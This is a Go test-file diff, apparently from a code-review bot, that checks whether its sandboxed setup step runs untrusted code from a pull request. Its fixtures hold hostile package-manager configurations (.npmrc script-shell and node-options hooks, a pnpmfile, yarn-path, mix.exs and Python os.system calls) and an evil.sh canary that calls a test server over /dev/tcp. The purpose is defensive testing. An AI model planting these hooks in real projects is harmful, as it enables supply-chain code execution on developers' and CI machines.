@@ -18,7 +18,6 @@ import (
 	"github.com/ycbot/ycbot/internal/evidence"
 	"github.com/ycbot/ycbot/internal/sandbox"
 	"github.com/ycbot/ycbot/internal/workspace"
-	"github.com/ycbot/ycbot/test/bench"
 )
 
 // An index is a registry of the operator's, of npm's and of Python's packages, which also
@@ -38,6 +37,8 @@ func newIndex(t *testing.T) *index {
 		switch r.URL.Path {
 		case "/evil":
 			x.evil.Add(1)
+		case "/yarn.js": // a package manager that the head names
+			fmt.Fprint(w, "require('child_process').execFileSync('bash', ['evil.sh'], { stdio: 'inherit' });\n")
 		case "/simple/tiny/":
 			w.Header().Set("Content-Type", "text/html")
 			fmt.Fprint(w, `<a href="/files/tiny-1.0.0-py3-none-any.whl">tiny-1.0.0-py3-none-any.whl</a>`)
@@ -85,6 +86,13 @@ type assault struct {
 	head     map[string]string // beside those of the base
 	setup    []string          // of the configuration
 	unharmed bool              // with a head that is not trusted setup succeeds all the same
+
+	more, locked func(*testing.T, *index) map[string]string // files of the head, and of both, that programs make
+	lacks        func(*Toolchains) string                   // what is missing besides programs
+	env          []string                                   // the operator's
+	managers     bool                                       // with test/managers in the search path, not test/runners
+	corepack     bool                                       // with corepack's shim for yarn
+	only         []string                                   // with these programs of the system alone
 }
 
 func (x *index) assaults() map[string]assault {
@@ -104,7 +112,7 @@ func (x *index) assaults() map[string]assault {
 	composer := map[string]string{
 		"phpunit.xml": "<phpunit/>", "composer.json": `{"name": "a/a", "description": "tested with phpunit", "require": {}}`,
 	}
-	return map[string]assault{
+	all := map[string]assault{
 		"npm":  npm("npm", map[string]string{".npmrc": "ignore-scripts=false\nscript-shell=./evil.sh\ngit=./evil.sh\nnode-options=--require=./evil.js\n"}),
 		"pnpm": npm("pnpm", map[string]string{".npmrc": "ignore-scripts=false\nignore-pnpmfile=false\n", ".pnpmfile.cjs": "require('child_process').execFileSync('bash', ['evil.sh'])\nmodule.exports = {}\n"}),
 		"yarn": npm("yarn", map[string]string{".yarnrc": "yarn-path \"./evil.js\"\n", "evil.js": "require('child_process').execFileSync('bash', ['evil.sh'])\n"}),
@@ -125,6 +133,10 @@ func (x *index) assaults() map[string]assault {
 		},
 		"mix": {needs: "elixir mix", base: map[string]string{"mix.exs": mix, "mix.lock": "%{}\n"}, head: map[string]string{"mix.exs": "System.cmd(\"bash\", [\"evil.sh\"])\n" + mix}},
 	}
+	for _, others := range []map[string]assault{javaAssaults(), poetryAssaults(), x.nodeAssaults()} {
+		maps.Copy(all, others)
+	}
+	return all
 }
 
 const runEvil = "import os\nos.system('bash evil.sh')\n"
@@ -135,7 +147,7 @@ const runEvil = "import os\nos.system('bash evil.sh')\n"
 // head each of these programs gets there.
 func TestSetupRunsNothingOfTheHead(t *testing.T) {
 	t.Parallel()
-	for name := range (&index{registry: &registry{Server: &httptest.Server{}}}).assaults() {
+	for name := range (&index{registry: &registry{Server: &httptest.Server{}}, own: &httptest.Server{}}).assaults() {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			x := newIndex(t)
@@ -162,28 +174,35 @@ func TestConfiguredSetupOfAStranger(t *testing.T) {
 
 func (x *index) try(t *testing.T, name string, a assault, network Network, open bool) {
 	t.Helper()
-	path := systemPath()
-	if runners, err := bench.Runners(t.Context()); err == nil {
-		path += ":" + filepath.Join(runners, ".bin")
-	}
+	path := a.path(t)
 	home := t.TempDir()
 	at := strings.TrimPrefix(x.own.URL, "http://")
 	host, port, _ := strings.Cut(at, ":")
 	lay(t, home, map[string][]byte{".npmrc": []byte("registry=" + x.URL + "/\n")})
-	tools := &Toolchains{env: []string{"PATH=" + path, "HOME=" + home, "PIP_INDEX_URL=" + x.own.URL + "/simple", "PIP_TRUSTED_HOST=" + host}}
+	tools := &Toolchains{env: []string{"PATH=" + path, "HOME=" + home, "PIP_INDEX_URL=" + x.own.URL + "/simple", "PIP_TRUSTED_HOST=" + host, "PIP_RETRIES=0"}}
 	if user, err := os.UserHomeDir(); err == nil {
 		tools.env = append(tools.env, "RUSTUP_HOME="+filepath.Join(user, ".rustup"))
 	}
-	for program := range strings.FieldsSeq(a.needs) {
-		if !tools.has(program) {
-			t.Skipf("%s: %s is needed", name, program)
-		}
+	tools.env = append(tools.env, a.env...)
+	a.has(t, name, tools)
+	if a.only != nil {
+		path = systemPath() // the sandbox has all of the system in any case
 	}
 	box := fullSandboxOf(t, path)
 	evil := fmt.Sprintf("#!/bin/bash\nexec 3<>/dev/tcp/%s/%s && printf 'GET /evil HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' >&3 && cat <&3\nexit 0\n", host, port)
 	s := &scenario{base: map[string][]byte{}, head: map[string][]byte{}, input: map[string][]string{}}
 	for file, text := range a.base {
 		s.base[file], s.head[file] = []byte(text), []byte(text)
+	}
+	if a.locked != nil {
+		for file, text := range a.locked(t, x) {
+			s.base[file], s.head[file] = []byte(text), []byte(text)
+		}
+	}
+	if a.more != nil {
+		for file, text := range a.more(t, x) {
+			s.head[file] = []byte(text)
+		}
 	}
 	for file, text := range a.head {
 		if path := []byte(text); filepath.Base(file) != "evil.sh" {
